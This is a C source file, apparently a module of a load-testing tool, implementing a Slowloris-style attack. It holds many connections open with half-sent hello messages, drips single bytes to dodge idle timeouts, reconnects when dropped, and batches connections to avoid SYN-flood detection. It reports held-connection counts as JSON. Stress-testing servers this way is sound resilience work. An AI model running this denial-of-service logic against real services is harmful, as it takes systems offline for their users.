// Slowloris: half hellos, as many as are asked for at any time. Who is sent away comes again at once.
#include "load.h"
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

static uint8_t hello[MAX_HELLO];
static size_t hello_size;
static struct { bool open, held; size_t sent; double last; } flights[MAX_DESCRIPTORS];
static uint64_t came, sent_away, dripped;
static int held, in_flight, epoll;
static unsigned turn;

static void leave(int socket) {
	sent_away++;
	in_flight--;
	if (flights[socket].held) held--;
	flights[socket].open = flights[socket].held = false;
	forget(socket);
}

static void step(int socket) {
	uint8_t byte;
	if (flights[socket].held) {
		// It says nothing but goodbye, or an alert before it.
		const ssize_t got = read(socket, &byte, 1);
		if (got == 0 || (got < 0 && errno != EAGAIN)) leave(socket);
		return;
	}
	if (write(socket, hello, hello_size / 2) != (ssize_t)(hello_size / 2)) return leave(socket);
	flights[socket].held = true;
	flights[socket].sent = hello_size / 2;
	flights[socket].last = now();
	held++;
	rewatch(epoll, socket, EPOLLIN);
}

// A byte more each: who measures silence alone does not notice.
static void drip(double time, double every) {
	for (int i = 0; i < MAX_DESCRIPTORS; i++) {
		if (!flights[i].held || time - flights[i].last < every || flights[i].sent + 1 >= hello_size) continue;
		flights[i].last = time;
		if (write(i, hello + flights[i].sent, 1) == 1) {
			flights[i].sent++;
			dripped++;
		}
	}
}

int run_slow(const struct options *options) {
	epoll = epoll_create1(EPOLL_CLOEXEC);
	hello_size = write_hello(hello, options, ROLE_ANSWER, options->seed);
	watch(epoll, 0, EPOLLIN);
	struct epoll_event events[256];
	bool told = false;
	double swept = now();
	char line[64];
	for (;;) {
		const double time = now();
		// Few at once: the flood of SYNs is another measurement.
		for (int i = 0; i < 64 && in_flight < options->connections; i++) {
			const int out = begin_connect(options, turn++);
			if (out < 0) break;
			flights[out].open = true;
			flights[out].held = false;
			in_flight++;
			came++;
			watch(epoll, out, EPOLLOUT);
		}
		const int count = epoll_wait(epoll, events, 256, in_flight < options->connections ? 1 : 100);
		for (int i = 0; i < count; i++) {
			if (events[i].data.fd != 0) {
				step(events[i].data.fd);
				continue;
			}
			int order;
			while ((order = read_order(line, sizeof line)) == 1) {
				printf("{\"held\":%d,\"came\":%lu,\"sentAway\":%lu,\"dripped\":%lu}\n", held, came, sent_away, dripped);
			}
			if (order < 0) return 0;
		}
		if (!told && held >= options->connections * 99 / 100) {
			told = true;
			printf("{\"held\":%d}\n", held);
		}
		if (options->drip <= 0 || time - swept < 0.1) continue;
		swept = time;
		drip(time, options->drip);
	}
}
